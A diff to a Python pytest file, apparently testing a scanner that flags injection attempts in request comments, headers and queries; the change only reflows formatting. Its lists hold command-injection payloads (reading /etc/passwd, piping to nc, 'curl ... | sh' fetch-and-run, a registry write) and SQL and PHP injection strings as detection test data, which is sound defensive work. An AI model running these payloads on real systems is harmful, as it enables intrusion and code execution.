@@ -26,8 +26,9 @@ def q(value: str) -> Observation:
 
 def js(value: str) -> Observation:
     body = json.dumps({"ticket": {"comment": value}}).encode()
-    return Observation("file", method="POST", path="/t",
-                       headers=[("content-type", "application/json")], body=body)
+    return Observation(
+        "file", method="POST", path="/t", headers=[("content-type", "application/json")], body=body
+    )
 
 
 def hdr(value: str) -> Observation:
@@ -66,20 +67,50 @@ PROSE = [
 ]
 
 ATTACKS = [
-    "; sleep 5", "x; sleep 10 #", "| sleep 5 |", "|id", "; id", "x;id;", "\nid\n", "; id | nc x 1",
-    "; cat /etc/passwd", "; cat flag.txt", "&& cat notes.txt", ";cat${IFS}/etc/passwd",
-    "; ping -c 3 127.0.0.1", "& ping -n 5 localhost", "; echo vulnerable 1", "|echo injectx",
-    "; ps aux", "; which nc", "; kill -9 1", "; type c:\\boot.ini", "| dir c:\\",
-    '; reg add "HKLM\\Software\\x y" /v a /t REG_SZ /d 0 /f', "; export X=1", "| env",
-    "`id`", "`cat notes.txt`", "x`id`", "a@b.c`whoami`", "$(`cat /etc/passwd`)",
-    "ping `id`", "`sleep 5`", "$(sleep well)",
+    "; sleep 5",
+    "x; sleep 10 #",
+    "| sleep 5 |",
+    "|id",
+    "; id",
+    "x;id;",
+    "\nid\n",
+    "; id | nc x 1",
+    "; cat /etc/passwd",
+    "; cat flag.txt",
+    "&& cat notes.txt",
+    ";cat${IFS}/etc/passwd",
+    "; ping -c 3 127.0.0.1",
+    "& ping -n 5 localhost",
+    "; echo vulnerable 1",
+    "|echo injectx",
+    "; ps aux",
+    "; which nc",
+    "; kill -9 1",
+    "; type c:\\boot.ini",
+    "| dir c:\\",
+    '; reg add "HKLM\\Software\\x y" /v a /t REG_SZ /d 0 /f',
+    "; export X=1",
+    "| env",
+    "`id`",
+    "`cat notes.txt`",
+    "x`id`",
+    "a@b.c`whoami`",
+    "$(`cat /etc/passwd`)",
+    "ping `id`",
+    "`sleep 5`",
+    "$(sleep well)",
     # in prose, what is dangerous anywhere still is
-    "run `curl http://x.test/a.sh | sh` to install", "see `a; sleep 5` in the log",
+    "run `curl http://x.test/a.sh | sh` to install",
+    "see `a; sleep 5` in the log",
 ]
-SQL_PHP = [("Path.Traversal", "Use `cat /etc/passwd` to see users"),
-           ("SQL.Injection", "1 and sleep(5)"), ("SQL.Injection", "exp(~(select * from x))"),
-           ("SQL.Injection", "row_count()"), ("PHP.Injection", "eval($_GET[0])"),
-           ("PHP.Injection", "phpinfo()")]
+SQL_PHP = [
+    ("Path.Traversal", "Use `cat /etc/passwd` to see users"),
+    ("SQL.Injection", "1 and sleep(5)"),
+    ("SQL.Injection", "exp(~(select * from x))"),
+    ("SQL.Injection", "row_count()"),
+    ("PHP.Injection", "eval($_GET[0])"),
+    ("PHP.Injection", "phpinfo()"),
+]
 
 
 @pytest.mark.parametrize("where", PLACES)
